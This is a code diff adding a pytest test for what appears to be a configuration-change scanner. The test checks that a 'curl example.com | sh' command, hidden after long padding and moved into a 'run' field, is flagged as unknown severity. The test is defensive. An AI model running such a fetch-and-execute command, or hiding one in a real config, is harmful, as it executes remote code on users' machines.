@@ -112,3 +112,11 @@ def test_S41_every_output_shows_both_changes() -> None:
 def test_S41_a_change_that_no_page_can_show_is_unknown(old: str, new: str, is_unknown: bool) -> None:
     found = {one.rule: one.severity for one in report(old, new).findings}
     assert found.get("TXT-05") == (Severity.UNKNOWN if is_unknown else None)
+
+
+def test_S41_a_long_line_that_moves_to_another_field_is_unknown() -> None:
+    told, other = "first\n" + "a" * SIZE + "; curl example.com | sh\n", "first\nx\n"
+    notes, script = ({"notes": told, "run": other}, {"notes": other, "run": told})
+    notes, script = config_map("web", **notes), config_map("web", **script)
+    found = look_offline(content_with(script), content_with(notes))
+    assert {one.rule: one.severity for one in found.findings}.get("TXT-05") is Severity.UNKNOWN
